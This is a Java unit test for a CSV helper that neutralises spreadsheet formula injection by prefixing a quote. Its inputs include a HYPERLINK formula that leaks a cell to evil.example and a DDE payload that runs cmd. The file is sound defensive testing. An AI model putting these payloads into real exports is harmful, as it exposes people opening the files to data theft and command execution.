package io.portcullis.store;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellsTest {
    @Test
    void cellShouldPrefixAQuoteWhenTheValueStartsLikeAFormula() {
        assertThat(CsvCells.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        assertThat(CsvCells.cell("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(CsvCells.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvCells.cell("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvCells.cell("\t=1")).isEqualTo("'\t=1");
        assertThat(CsvCells.cell("\r=1")).isEqualTo("'\r=1");
    }

    @Test
    void cellShouldKeepOrdinaryValuesAsTheyAre() {
        assertThat(CsvCells.cell("Quarterly report")).isEqualTo("Quarterly report");
        assertThat(CsvCells.cell("a=b")).isEqualTo("a=b");
        assertThat(CsvCells.cell("2026-11-18T10:00:00Z")).isEqualTo("2026-11-18T10:00:00Z");
        assertThat(CsvCells.cell("")).isEmpty();
        assertThat(CsvCells.cell(null)).isNull();
    }

    @Test
    void cellsShouldNeutraliseEveryValue() {
        assertThat(CsvCells.cells("=1", "ok", null, 42)).containsExactly("'=1", "ok", null, "42");
    }
}
